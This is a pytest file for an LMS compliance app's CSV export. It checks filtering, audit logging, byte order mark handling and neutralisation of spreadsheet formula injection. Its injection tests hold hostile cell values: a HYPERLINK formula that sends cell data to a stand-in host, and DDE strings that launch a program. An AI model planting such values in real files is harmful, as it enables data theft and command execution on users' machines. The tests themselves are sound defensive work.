"""One CSV export flow (`oversight.exports.completion_csv_export`) behind both doors: the API's
completion.csv and the dashboard's; and the same file prepared in the background (the
dashboard's *Prepare CSV*, `oversight.exports.COMPLETION_CSV`). For each filter, all give the
same file and write the same audit event."""

import csv
import io

import pytest
from django.utils import timezone

from compliance.exporting.models import ExportRequest
from lms.audit import Action
from lms.models import AuditEvent
from tests.factories import PersonFactory, UnitFactory
from tests.helpers import pass_module
from tests.tasks import run_on_commit, run_tasks

DOORS = ["api", "page", "queued"]

# (filters, the people expected by name), people: "done" passed both modules, "none" nothing.
CASES = [
    ({}, {"done", "none", "east"}),
    ({"status": "completed"}, {"done"}),
    ({"status": "not_started"}, {"none", "east"}),
    ({"unit": "east"}, {"east"}),
    ({"category": "civilian"}, {"none"}),
    ({"unit": "east", "status": "completed"}, set()),
]


@pytest.fixture
def world(make_command_staff, agency_a, assignment, curriculum):
    east = UnitFactory(agency=agency_a, name="East")
    people = {
        "done": PersonFactory(agency=agency_a, user__first_name="Done"),
        "none": PersonFactory(
            agency=agency_a, user__first_name="None", personnel_category="civilian"
        ),
        "east": PersonFactory(agency=agency_a, user__first_name="East", unit=east),
    }
    for module in curriculum.modules:
        pass_module(people["done"], module)
    command = make_command_staff(agency_a)
    command.user.first_name = "Command"
    command.user.save()
    return {"command": command, "people": people, "east": east, "curriculum": curriculum.page}


def _prepared(client, user, params):
    """Ask for the CSV as the dashboard's *Prepare CSV* form does, run the task, download."""
    client.force_login(user)
    with run_on_commit(execute=True):
        asked = client.post("/compliance/staff/exports/new/", {"kind": "completion-csv", **params})
    assert asked.status_code == 302 and asked["Location"] == "/compliance/staff/exports/"
    run_tasks()
    export = ExportRequest.objects.get(kind="completion-csv", status="ready")
    return client.get(f"/compliance/staff/exports/{export.pk}/")


def _download(door, client, api_for, user, params):
    if door == "api":
        response = api_for(user).get("/api/v1/reports/completion.csv", params)
    elif door == "queued":
        response = _prepared(client, user, params)
    else:
        client.force_login(user)
        response = client.get("/oversight/completion.csv", params)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # the page has a BOM
    return response["Content-Disposition"], list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize(("filters", "expected"), CASES)
def test_each_door_exports_the_filtered_rows_and_records_the_export(
    client, api_for, world, door, filters, expected
):
    params = {k: world["east"].pk if v == "east" else v for k, v in filters.items()}
    disposition, rows = _download(door, client, api_for, world["command"].user, params)

    stamp = timezone.localdate().isoformat()
    assert disposition == (
        f'attachment; filename="completion-{world["curriculum"].slug}-{stamp}.csv"'
    )
    names = {world["people"][key].display_name: key for key in world["people"]}
    listed = {names[row["name"]] for row in rows if row["name"] in names}
    assert listed == expected
    assert all(row["modules_total"] == "2" for row in rows)
    event = AuditEvent.objects.filter(action=Action.REPORT_EXPORTED).get()
    assert event.actor_username == world["command"].user.username
    if door == "queued":
        assert event.data.pop("export") == ExportRequest.objects.get().pk
    assert event.data == {
        "format": "csv",
        "unit": params.get("unit"),
        "status": params.get("status"),
        "category": params.get("category"),
    }


# Spreadsheet formula injection (OWASP "CSV Injection") and the byte order mark

HOSTILE = [
    '=HYPERLINK("http://x.example/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rReturn",
]


@pytest.fixture
def hostile_person(agency_a, command_a):
    unit = UnitFactory(agency=agency_a, name="=1+1")
    return PersonFactory(
        agency=agency_a,
        unit=unit,
        badge_number="-3",
        rank="@rank",
        user__first_name="=cmd|' /C calc'!A0",
        user__last_name="",
    )


@pytest.mark.parametrize("door", DOORS)
def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(
    client, api_for, command_a, hostile_person, door
):
    _, rows = _download(door, client, api_for, command_a.user, {})

    row = next(r for r in rows if r["person_id"] == str(hostile_person.pk))
    assert row["name"] == "'=cmd|' /C calc'!A0"
    assert row["unit"] == "'=1+1"
    # A badge that looks like a negative number is text, escaped too (documented choice).
    assert row["badge_number"] == "'-3"
    # Numbers the report computes are left as numbers.
    assert row["modules_completed"] == "0"


@pytest.mark.parametrize("value", [*HOSTILE, "\0nul", "\nnewline"])
def test_safe_cell_prefixes_every_formula_trigger(value):
    from lms.csv_export import safe_cell

    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["José Núñez", "", "a=b", "'quoted", "1-2", 7, -3, None])
def test_safe_cell_leaves_other_values_alone(value):
    from lms.csv_export import safe_cell

    assert safe_cell(value) == ("" if value is None else value)


def _raw(door, client, api_for, user, params):
    if door == "api":
        response = api_for(user).get("/api/v1/reports/completion.csv", params)
    elif door == "queued":
        response = _prepared(client, user, params)
    else:
        client.force_login(user)
        response = client.get("/oversight/completion.csv", params)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("door", ["page", "queued"])
def test_page_download_starts_with_the_utf8_byte_order_mark(client, api_for, command_a, door):
    PersonFactory(agency=command_a.agency, user__first_name="José", user__last_name="Núñez")

    body = _raw(door, client, api_for, command_a.user, {})

    assert body.startswith(b"\xef\xbb\xbfperson_id,")
    assert "José Núñez" in body.decode("utf-8-sig")


def test_api_csv_has_no_byte_order_mark_unless_asked(client, api_for, command_a):
    PersonFactory(agency=command_a.agency, user__first_name="José", user__last_name="Núñez")

    plain = _raw("api", client, api_for, command_a.user, {})
    marked = _raw("api", client, api_for, command_a.user, {"bom": "1"})
    unmarked = _raw("api", client, api_for, command_a.user, {"bom": "0"})

    assert plain.startswith(b"person_id,")
    assert unmarked == plain
    assert marked == b"\xef\xbb\xbf" + plain
    assert "José Núñez" in marked.decode("utf-8-sig")


def test_api_csv_refuses_a_bom_value_that_is_not_a_boolean(api_for, command_a):
    response = api_for(command_a.user).get("/api/v1/reports/completion.csv", {"bom": "maybe"})

    assert response.status_code == 400
    assert "bom" in response.json()


def test_the_bom_parameter_is_in_the_openapi_schema(api_for, command_a):
    schema = api_for(command_a.user).get("/api/v1/schema/", {"format": "json"}).json()

    parameters = schema["paths"]["/api/v1/reports/completion.csv"]["get"]["parameters"]
    bom = next(p for p in parameters if p["name"] == "bom")
    assert bom["in"] == "query"
    assert bom["schema"]["type"] == "boolean"
    assert "byte order mark" in bom["description"]


def test_preparing_with_a_unit_of_another_agency_is_404_and_queues_nothing(
    client, command_a, agency_b
):
    other = UnitFactory(agency=agency_b)
    client.force_login(command_a.user)
    with run_on_commit(execute=True):
        response = client.post(
            "/compliance/staff/exports/new/", {"kind": "completion-csv", "unit": other.pk}
        )
    assert response.status_code == 404
    assert not ExportRequest.objects.exists()
    assert not AuditEvent.objects.filter(action=Action.REPORT_EXPORTED).exists()


def test_preparing_with_a_bad_status_says_so_and_queues_nothing(client, command_a):
    client.force_login(command_a.user)
    response = client.post(
        "/compliance/staff/exports/new/",
        {"kind": "completion-csv", "status": "sideways", "next": "/oversight/"},
        follow=True,
    )
    assert response.redirect_chain[-1][0] == "/oversight/"
    assert "status: Must be one of:" in response.content.decode()
    assert not ExportRequest.objects.exists()
